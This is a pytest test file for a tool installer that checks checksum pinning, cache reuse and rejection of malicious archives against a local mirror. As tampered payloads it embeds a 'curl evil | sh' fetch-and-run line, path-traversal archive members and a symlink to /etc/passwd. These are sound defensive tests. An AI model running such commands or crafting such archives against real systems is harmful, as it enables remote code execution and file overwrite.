"""`idp tools install` against a local HTTP server: verify before use, refuse tampering, reuse the cache.

The server on 127.0.0.1 plays the artifact mirror an organisation would point
IDP_TOOLS_MIRROR at. The archives are built here, each holding a small executable
script; the test manifest pins their real SHA-256. The last tests check the shipped
manifest itself.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import stat
import subprocess
import tarfile
import threading
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from idp_actions import tools
from idp_actions.cli import main
from idp_actions.errors import ToolError

SCRIPT = b"#!/bin/sh\necho 'Version: 9.9.9'\n"
ORIGIN = "https://github.com/example/releases/download/v9.9.9"


@dataclass
class Mirror:
    """Files served on 127.0.0.1, and how often each was asked for."""

    url: str
    files: dict[str, bytes] = field(default_factory=dict)
    hits: Counter[str] = field(default_factory=Counter)


@pytest.fixture
def mirror(monkeypatch: pytest.MonkeyPatch) -> Iterator[Mirror]:
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.delenv("IDP_TOOLS_MIRROR", raising=False)
    state = Mirror(url="")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            state.hits[self.path] += 1
            body = state.files.get(self.path)
            if body is None:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    state.url = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def tar_gz(members: dict[str, bytes], *, links: dict[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o755
            archive.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            archive.addfile(info)
    return buffer.getvalue()


def tar_xz(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:xz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFREG | 0o755) << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def publish(
    mirror: Mirror, name: str, filename: str, good: bytes, archive: str, binary: str, *, served: bytes | None = None
) -> dict[str, Any]:
    """Serve ``served`` (default ``good``) and return a manifest pinning ``good``'s hash."""
    mirror.files[f"/example/releases/download/v9.9.9/{filename}"] = good if served is None else served
    return {
        "tools": {
            name: {
                "version": "9.9.9",
                "source": {"repository": "tests", "path": "built in the test", "commit": "0" * 40},
                "platforms": {
                    "linux-amd64": {
                        "url": f"{ORIGIN}/{filename}",
                        "sha256": sha256(good),
                        "archive": archive,
                        "binary": binary,
                    }
                },
            }
        }
    }


def files_under(path: Path) -> list[Path]:
    return sorted(p for p in path.rglob("*")) if path.exists() else []


# ------------------------------------------------------------------ installs


@pytest.mark.parametrize(
    ("name", "filename", "archive", "binary", "build"),
    [
        (
            "opa",
            "opa_9.9.9_linux_amd64.tar.gz",
            "tar.gz",
            "opa-9.9.9/opa",
            lambda: tar_gz({"opa-9.9.9/opa": SCRIPT, "opa-9.9.9/LICENSE": b"x"}),
        ),
        ("tofu", "tofu_9.9.9_linux_amd64.zip", "zip", "tofu", lambda: zip_bytes({"tofu": SCRIPT, "README.md": b"x"})),
        (
            "shellcheck",
            "shellcheck-v9.9.9.linux.x86_64.tar.xz",
            "tar.xz",
            "shellcheck-v9.9.9/shellcheck",
            lambda: tar_xz({"shellcheck-v9.9.9/shellcheck": SCRIPT}),
        ),
        ("kustomize", "kustomize_linux_amd64", "raw", "kustomize", lambda: SCRIPT),
    ],
)
def test_good_archive_installs_a_runnable_binary(
    mirror: Mirror, tmp_path: Path, name: str, filename: str, archive: str, binary: str, build: Any
) -> None:
    manifest = publish(mirror, name, filename, build(), archive, binary)
    dest = tmp_path / "cache"
    installed = tools.install(name, dest=dest, mirror=mirror.url, manifest=manifest, platform="linux-amd64")
    assert installed.path == dest / name / "9.9.9" / "bin" / name
    assert installed.directory == installed.path.parent
    assert not installed.cached
    assert subprocess.run([installed.path], capture_output=True, text=True, check=True).stdout == "Version: 9.9.9\n"
    assert installed.path.stat().st_mode & 0o777 == 0o755
    # Only the binary is on PATH: the kept download and the marker live beside bin/, not in it.
    assert [p.name for p in installed.directory.iterdir()] == [name]
    assert not [p for p in (dest / name).iterdir() if p.name.startswith(".")]  # no partial directory left
    # A later step can point the registry at it explicitly, as well as find it on PATH.
    override = f"IDP_{name.upper()}"
    assert tools.locate(name, environ={"PATH": "/nonexistent", override: str(installed.path)}) == (
        installed.path,
        override,
    )


def test_second_install_reuses_the_verified_cache_without_a_request(mirror: Mirror, tmp_path: Path) -> None:
    manifest = publish(mirror, "opa", "opa.tar.gz", tar_gz({"opa": SCRIPT}), "tar.gz", "opa")
    first = tools.install("opa", dest=tmp_path, mirror=mirror.url, manifest=manifest, platform="linux-amd64")
    assert sum(mirror.hits.values()) == 1
    second = tools.install("opa", dest=tmp_path, mirror=mirror.url, manifest=manifest, platform="linux-amd64")
    assert second.cached and second.path == first.path
    assert sum(mirror.hits.values()) == 1


def test_a_modified_cached_binary_is_replaced_not_trusted(mirror: Mirror, tmp_path: Path) -> None:
    manifest = publish(mirror, "opa", "opa.tar.gz", tar_gz({"opa": SCRIPT}), "tar.gz", "opa")
    first = tools.install("opa", dest=tmp_path, mirror=mirror.url, manifest=manifest, platform="linux-amd64")
    first.path.write_bytes(b"#!/bin/sh\necho tampered\n")
    again = tools.install("opa", dest=tmp_path, mirror=mirror.url, manifest=manifest, platform="linux-amd64")
    assert not again.cached
    assert sum(mirror.hits.values()) == 2
    assert again.path.read_bytes() == SCRIPT


@pytest.mark.parametrize(
    ("filename", "archive", "good", "tampered"),
    [
        ("opa.tar.gz", "tar.gz", tar_gz({"opa": SCRIPT}), tar_gz({"opa": b"#!/bin/sh\ncurl evil | sh\n"})),
        ("opa.zip", "zip", zip_bytes({"opa": SCRIPT}), zip_bytes({"opa": b"#!/bin/sh\ncurl evil | sh\n"})),
    ],
)
def test_tampered_download_is_refused_and_leaves_nothing(
    mirror: Mirror, tmp_path: Path, filename: str, archive: str, good: bytes, tampered: bytes
) -> None:
    manifest = publish(mirror, "opa", filename, good, archive, "opa", served=tampered)
    dest = tmp_path / "cache"
    with pytest.raises(ToolError) as caught:
        tools.install("opa", dest=dest, mirror=mirror.url, manifest=manifest, platform="linux-amd64")
    message = str(caught.value)
    assert f"checksum mismatch for {mirror.url}/example/releases/download/v9.9.9/{filename}" in message
    assert f"expected sha256 {sha256(good)}, got {sha256(tampered)}" in message
    assert "nothing was installed" in message
    assert files_under(dest) == []
    assert not dest.exists()


def test_mirror_comes_from_the_environment(mirror: Mirror, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    manifest = publish(mirror, "opa", "opa", SCRIPT, "raw", "opa")
    monkeypatch.setenv("IDP_TOOLS_MIRROR", mirror.url + "/")
    installed = tools.install("opa", dest=tmp_path, manifest=manifest, platform="linux-amd64")
    assert installed.path.read_bytes() == SCRIPT
    assert mirror.hits == Counter({"/example/releases/download/v9.9.9/opa": 1})


def test_missing_file_on_the_mirror_is_a_clear_error(mirror: Mirror, tmp_path: Path) -> None:
    manifest = publish(mirror, "opa", "opa", SCRIPT, "raw", "opa")
    mirror.files.clear()
    with pytest.raises(ToolError, match=r"downloading http://127\.0\.0\.1:\d+/example/.*/opa failed: HTTP 404"):
        tools.install("opa", dest=tmp_path / "d", mirror=mirror.url, manifest=manifest, platform="linux-amd64")
    assert not (tmp_path / "d").exists()


@pytest.mark.parametrize(
    ("filename", "archive", "payload", "why"),
    [
        ("t.tar.gz", "tar.gz", tar_gz({"opa": SCRIPT, "../../escaped.sh": SCRIPT}), "'../../escaped.sh' escapes"),
        ("a.tar.gz", "tar.gz", tar_gz({"opa": SCRIPT, "/tmp/absolute.sh": SCRIPT}), "'/tmp/absolute.sh' escapes"),
        ("z.zip", "zip", zip_bytes({"opa": SCRIPT, "../escaped.sh": SCRIPT}), "'../escaped.sh' escapes"),
        ("l.tar.gz", "tar.gz", tar_gz({}, links={"opa": "/etc/passwd"}), "'opa' links outside"),
        ("u.tar.gz", "tar.gz", tar_gz({"x": SCRIPT}, links={"opa": "../../outside"}), "'opa' links outside"),
        ("s.tar.gz", "tar.gz", tar_gz({"real": SCRIPT}, links={"opa": "real"}), "'opa' is not a regular file"),
        ("m.tar.gz", "tar.gz", tar_gz({"other": SCRIPT}), "'opa' is missing"),
    ],
)
def test_hostile_archives_are_rejected(
    mirror: Mirror, tmp_path: Path, filename: str, archive: str, payload: bytes, why: str
) -> None:
    # The hash matches: the archive is exactly what was pinned, and still not trusted blindly.
    manifest = publish(mirror, "opa", filename, payload, archive, "opa")
    dest = tmp_path / "deep" / "cache"
    with pytest.raises(ToolError, match=re.escape(why)):
        tools.install("opa", dest=dest, mirror=mirror.url, manifest=manifest, platform="linux-amd64")
    assert not dest.exists()
    assert files_under(tmp_path) == [tmp_path / "deep"]
    assert not Path("/tmp/absolute.sh").exists()


# ------------------------------------------------------------------ command


def test_install_command_puts_tools_on_the_job_path_and_sets_outputs(
    mirror: Mirror, tmp_path: Path, actions_env: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    manifest = publish(mirror, "opa", "opa.tar.gz", tar_gz({"opa": SCRIPT}), "tar.gz", "opa")
    manifest["tools"].update(publish(mirror, "tofu", "tofu.zip", zip_bytes({"tofu": SCRIPT}), "zip", "tofu")["tools"])
    manifest_file = tmp_path / "tools.json"
    manifest_file.write_text(json.dumps(manifest), encoding="utf-8")
    monkeypatch.setattr(tools.installer, "current_platform", lambda: "linux-amd64")
    monkeypatch.setenv("RUNNER_TOOL_CACHE", str(tmp_path / "toolcache"))
    monkeypatch.setenv("PATH", os.environ["PATH"])  # add_path also prepends to this process's PATH: undo it after
    args = ["tools", "install", "opa, tofu", "--mirror", mirror.url, "--manifest", str(manifest_file)]
    assert main(args) == 0
    root = tmp_path / "toolcache" / "idp-actions"
    assert actions_env["PATH"].read_text().splitlines() == [str(root / "opa/9.9.9/bin"), str(root / "tofu/9.9.9/bin")]
    assert os.environ["PATH"].startswith(f"{root / 'tofu/9.9.9/bin'}{os.pathsep}{root / 'opa/9.9.9/bin'}{os.pathsep}")
    outputs = actions_env["OUTPUT"].read_text()
    assert re.search(rf"opa-path<<(\S+)\n{re.escape(str(root / 'opa/9.9.9/bin/opa'))}\n\1", outputs)
    assert re.search(r"tofu-version<<(\S+)\n9\.9\.9\n\1", outputs)
    assert main(args) == 0  # the second run of a job on the same runner: all from the cache
    assert sum(mirror.hits.values()) == 2


# ---------------------------------------------------------- shipped manifest

OFFICIAL = {
    "opa": "https://github.com/open-policy-agent/opa/releases/download/",
    "tofu": "https://github.com/opentofu/opentofu/releases/download/",
    "terraform": "https://releases.hashicorp.com/terraform/",
    "conftest": "https://github.com/open-policy-agent/conftest/releases/download/",
    "gator": "https://github.com/open-policy-agent/gatekeeper/releases/download/",
    "trivy": "https://github.com/aquasecurity/trivy/releases/download/",
    "actionlint": "https://github.com/rhysd/actionlint/releases/download/",
    "kustomize": "https://github.com/kubernetes-sigs/kustomize/releases/download/",
    "zizmor": "https://github.com/zizmorcore/zizmor/releases/download/",
    "shellcheck": "https://github.com/koalaman/shellcheck/releases/download/",
    "act": "https://github.com/nektos/act/releases/download/",
}
SHIPPED = tools.load_manifest()


@pytest.mark.parametrize("name", sorted(SHIPPED["tools"]))
def test_shipped_manifest_entry_is_well_formed(name: str) -> None:
    entry = SHIPPED["tools"][name]
    assert name in tools.TOOLS
    assert re.fullmatch(r"\d+\.\d+\.\d+", entry["version"])
    source = entry["source"]
    assert re.fullmatch(r"[\w.-]+/[\w.-]+", source["repository"])
    assert source["path"]
    assert re.fullmatch(r"[0-9a-f]{40}", source["commit"])
    assert "linux-amd64" in entry["platforms"]
    assert set(entry["platforms"]) <= {"linux-amd64", "linux-arm64", "darwin-arm64", "darwin-amd64"}
    for platform, item in entry["platforms"].items():
        assert re.fullmatch(r"[0-9a-f]{64}", item["sha256"]), platform
        assert item["url"].startswith(OFFICIAL[name]), item["url"]
        assert entry["version"] in item["url"]
        assert item["archive"] in ("raw", "zip", "tar.gz", "tar.xz")
        assert item["url"].endswith(
            {"raw": "", "zip": ".zip", "tar.gz": ".tar.gz", "tar.xz": ".tar.xz"}[item["archive"]]
        )
        assert tools._safe_member(item["binary"])
        assert item["binary"].rsplit("/", 1)[-1] == name
        assert tools.artifact(name, SHIPPED, platform).sha256 == item["sha256"]


def test_shipped_manifest_hashes_are_distinct_and_every_tool_is_accounted_for() -> None:
    hashes = [item["sha256"] for entry in SHIPPED["tools"].values() for item in entry["platforms"].values()]
    assert len(hashes) == len(set(hashes))
    assert set(SHIPPED["tools"]) | set(SHIPPED["not_installable"]) == set(tools.TOOLS)
    assert not set(SHIPPED["tools"]) & set(SHIPPED["not_installable"])
